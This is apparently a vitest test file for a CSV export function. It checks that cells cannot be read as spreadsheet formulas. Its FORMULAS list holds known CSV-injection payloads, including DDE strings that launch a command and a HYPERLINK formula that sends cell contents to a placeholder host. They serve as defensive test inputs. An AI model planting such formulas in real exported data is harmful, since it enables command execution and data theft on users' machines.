import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type Cell, csv } from '../../shared/pages/csv.ts';

/** The cells as a reader that knows RFC 4180 and nothing of us has them. */
const read = (text: string, delimiter = ','): string[][] =>
  parse(text, {
    bom: true,
    delimiter,
    record_delimiter: '\r\n',
    relax_quotes: delimiter !== ',',
    relax_column_count: true,
  });

const shown = (cell: Cell): string => read(csv([[cell]]))[0]?.[0] ?? '';

/** From the OWASP page on CSV injection and what people have found since. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://jahat.example?x="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '-',
  '--',
  '=',
];

describe('a cell', () => {
  test.each(FORMULAS)('with %j is no formula', text => {
    expect(shown(text)).toMatch(/^'/);
  });

  test.each([
    '0013121660091000',
    '20535011',
    '+6281234567890',
    '0812-3456-7890',
    '1E5',
    '12.345',
    '1/2',
    '2026-06-22',
    '(12)',
    '50%',
    '1 000',
  ])('with %j stays the text that it is', text => {
    expect(shown(text)).toBe(`'${text}`);
  });

  test.each([
    'Yayasan Cahaya Literasi Nusantara',
    'PT "Maju", Tbk',
    'baris satu\nbaris dua',
    '12 sekolah',
    'P1234567',
    'email@contoh.example',
    'Dra. Halimatussa’diyah, M.Pd',
    "'dikutip'",
    '',
  ])('with %j is shown as it was written', text => {
    expect(shown(text)).toBe(text);
  });

  test('with a number or a day is one to the spreadsheet', () => {
    expect(csv([[12, { plain: '2026-06-22 16:00' }, 'x']])).toBe('\uFEFF12,2026-06-22 16:00,"x"\r\n');
  });
});

test.each([',', ';', '\t', '|'])('nothing runs where a program splits the rows at “%s”', delimiter => {
  const nasty = FORMULAS.flatMap(formula => [
    formula,
    `a;${formula}`,
    `a, ${formula}`,
    `a\t${formula}`,
    `a"${formula}`,
    `a\n${formula}`,
    `a|${formula}`,
  ]);
  const text = csv([nasty, ...nasty.map(cell => [cell, 'x'])]);
  // The crudest reader there is: every separator, quote and line break begins a cell.
  const cells = text.split(new RegExp(`[\\r\\n"${delimiter}]`));
  expect(cells.filter(cell => /^\s*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
});

test('any table comes back from a reader cell by cell, but for the mark that keeps a text a text', () => {
  fc.assert(
    fc.property(
      fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 4 }), {
        minLength: 1,
        maxLength: 5,
      }),
      rows => {
        const back = read(csv(rows));
        const plain = (cell = ''): string => cell.replace(/\r\n?/g, '\n').replaceAll("'", '');
        expect(back.map(row => row.map(plain))).toEqual(rows.map(row => row.map(plain)));
      },
    ),
  );
});

test('the file begins with the mark of UTF-8 and ends each row as RFC 4180 has it', () => {
  expect(csv([['a'], ['b']])).toBe('\uFEFF"a"\r\n"b"\r\n');
});
